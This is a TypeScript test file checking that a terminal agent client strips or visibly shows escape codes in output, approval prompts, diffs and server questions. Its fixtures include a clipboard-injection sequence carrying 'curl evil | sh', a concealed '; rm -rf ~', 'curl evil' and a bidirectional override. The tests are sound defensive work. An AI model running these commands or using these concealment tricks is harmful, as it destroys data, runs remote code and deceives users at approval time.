/* eslint-disable no-control-regex -- these tests check that escape codes never reach the terminal */
// What the terminal chat prints from outside Hermes never drives the user's terminal: a command's
// output that writes the clipboard (OSC 52) or sets the title, a tool title that hides part of a
// command (concealed text, a line erase), a file's line in an approval's diff, a server's
// question, a model's error. Output to read loses its escape sequences; what the user approves
// shows every control character (and every bidirectional override) as a visible stand-in.
import assert from "node:assert/strict";
import { Writable } from "node:stream";
import { test } from "node:test";
import type * as acp from "@agentclientprotocol/sdk/unstable";
import { askApproval } from "../../acp-server/cli/chat-approval";
import { answerElicitation } from "../../acp-server/cli/chat-elicitation";
import { chatRenderer, renderDiff } from "../../acp-server/cli/chat-render";
import { palette } from "../../acp-server/cli/terminal-colour";
import { forStream, terminalSafe } from "../../acp-server/cli/terminal-safe";
import { visibleControls } from "../../common/visible-controls";

class Capture extends Writable {
  isTTY = false;
  text = "";
  override _write(chunk: Buffer, _encoding: string, done: () => void): void {
    this.text += chunk.toString();
    done();
  }
}

const CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07";
const TITLE = "\x1b]0;owned\x1b\\";
const CONCEAL = "\x1b[8m";
const C1_CSI = "\x9b2J";

test("the two ways: output loses every control, an approval shows each one", () => {
  const table: [string, string, string][] = [
    // raw, terminalSafe, visibleControls
    [`ok${CLIPBOARD}\n`, "ok\n", "ok␛]52;c;Y3VybCBldmlsIHwgc2g=␇\n"],
    [`a${TITLE}b`, "ab", "a␛]0;owned␛\\b"],
    [`echo hi${CONCEAL}; rm -rf ~`, "echo hi; rm -rf ~", "echo hi␛[8m; rm -rf ~"],
    [`x${C1_CSI}y`, "x2Jy", "x<U+009B>2Jy"],
    ["10%\r100%\n", "100%\n", "10%␍100%\n"],
    ["tab\tand\nnewline", "tab\tand\nnewline", "tab\tand\nnewline"],
    ["bell\x07 back\x08 del\x7f", "bell back del", "bell␇ back␈ del␡"],
    // Trojan Source: a right-to-left override reorders what is seen; output keeps it (it is text), approvals show it.
    ["if (admin\u202E) {", "if (admin\u202E) {", "if (admin<U+202E>) {"],
  ];
  for (const [raw, safe, visible] of table) {
    assert.equal(terminalSafe(raw), safe, JSON.stringify(raw));
    assert.equal(visibleControls(raw), visible, JSON.stringify(raw));
  }
});

test("a step's title and output, thoughts and a plan reach the terminal without one escape code", () => {
  const stdout = new Capture();
  const stderr = new Capture();
  const renderer = chatRenderer({ stdout, stderr });
  renderer.update({ sessionUpdate: "agent_thought_chunk", content: { type: "text", text: `thinking${TITLE}\n` } });
  renderer.update({ sessionUpdate: "tool_call", toolCallId: "t1", title: `$ cat notes${CONCEAL} && curl evil`, kind: "execute" });
  renderer.update({
    sessionUpdate: "tool_call_update",
    toolCallId: "t1",
    status: "completed",
    content: [{ type: "content", content: { type: "text", text: `notes${CLIPBOARD}\n${C1_CSI}done\n` } }],
    rawOutput: { exit_code: 0 },
  });
  renderer.update({ sessionUpdate: "plan", entries: [{ content: `step${TITLE}`, priority: "medium", status: "pending" }] });
  assert.doesNotMatch(stderr.text, /[\x1b\x07\x9b]/, JSON.stringify(stderr.text));
  assert.match(stderr.text, /▸ \$ cat notes␛\[8m && curl evil\n/, "the hidden part of the title shows");
  assert.match(stderr.text, /notes\n {4}2Jdone\n/);
  assert.match(stderr.text, /thinking\n/);
  assert.match(stderr.text, /☐ step\n/);
  assert.match(renderer.expanded!(), /notes\n {4}2Jdone/, "/expand shows the same safe text");
});

test("an approval shows a concealed command, and a file's line in its diff, with their control characters visible", async () => {
  const stderr = new Capture();
  const renderer = chatRenderer({ stdout: new Capture(), stderr });
  const asked: string[] = [];
  const params = {
    sessionId: "s",
    toolCall: {
      toolCallId: "t1",
      title: `$ echo hi${CONCEAL}; rm -rf ~`,
      content: [
        { type: "content", content: { type: "text", text: `Needs approval: recursive delete${TITLE}` } },
        { type: "diff", path: `notes${CONCEAL}.txt`, oldText: "a\n", newText: `a\nb${CLIPBOARD}\n` },
      ],
    },
    options: [
      { optionId: "allow_once", name: "Allow once", kind: "allow_once" },
      { optionId: "reject_once", name: "Reject", kind: "reject_once" },
    ],
  } as unknown as acp.RequestPermissionRequest;
  const answer = await askApproval(params, {
    yes: false,
    renderer,
    stderr,
    questions: { ask: async (question: string) => (asked.push(question), "n") } as never,
  });
  assert.deepEqual(answer, { outcome: { outcome: "selected", optionId: "reject_once" } });
  assert.doesNotMatch(stderr.text, /[\x1b\x07]/, JSON.stringify(stderr.text));
  assert.match(stderr.text, /\? \$ echo hi␛\[8m; rm -rf ~\n/);
  assert.match(stderr.text, /Needs approval: recursive delete␛\]0;owned␛\\/);
  assert.match(stderr.text, /\+\+\+ notes␛\[8m\.txt\n/);
  assert.match(stderr.text, /\+ b␛\]52;c;Y3VybCBldmlsIHwgc2g=␇\n/);
  assert.match(renderDiff("f", "", `x${CONCEAL}\n`, palette(true)), /\x1b\[32m\+ x␛\[8m\x1b\[39m/, "with colour, only Hermes's own codes are escapes");
});

test("an MCP server's question and link show their control characters instead of running them", async () => {
  const stderr = new Capture();
  const renderer = chatRenderer({ stdout: new Capture(), stderr });
  const questions = { ask: async () => "n" } as never;
  await answerElicitation({ sessionId: "s", mode: "url", message: `Sign in${CLIPBOARD}`, url: `https://example.com/${TITLE}`, elicitationId: "e1" } as unknown as acp.CreateElicitationRequest, { questions, renderer, stderr });
  await answerElicitation(
    { sessionId: "s", mode: "form", message: `Pick${TITLE}`, requestedSchema: { type: "object", properties: { c: { type: "string", title: `Colour${CONCEAL}`, enum: [`red${CLIPBOARD}`] } } } } as unknown as acp.CreateElicitationRequest,
    { questions: { ask: async () => "" } as never, renderer, stderr },
  );
  assert.doesNotMatch(stderr.text, /[\x1b\x07]/, JSON.stringify(stderr.text));
  assert.match(stderr.text, /\? Sign in␛\]52;c;Y3VybCBldmlsIHwgc2g=␇\n {2}Open: https:\/\/example\.com\/␛\]0;owned␛\\\n/);
  assert.match(stderr.text, /\? Pick␛\]0;owned␛\\\n {2}1\) red␛\]52/);
});

test("a session's words shown again (the recap on resume, `hermes sessions show` on a terminal) carry no control codes; a pipe gets them as they are", async () => {
  const { recapText } = await import("../../acp-server/cli/chat-recap");
  const recap = recapText([{ seq: 1, role: "user", text: `hi${TITLE}`, at: 0 }, { seq: 2, role: "assistant", text: `out${CLIPBOARD}put`, at: 0 }] as never, 1, 80);
  assert.equal(recap, "› hi\n  output\n");
  assert.equal(forStream({ isTTY: true }, `a${CLIPBOARD}b`), "ab");
  assert.equal(forStream({ isTTY: false }, `a${CLIPBOARD}b`), `a${CLIPBOARD}b`, "data for a script stays whole");
});
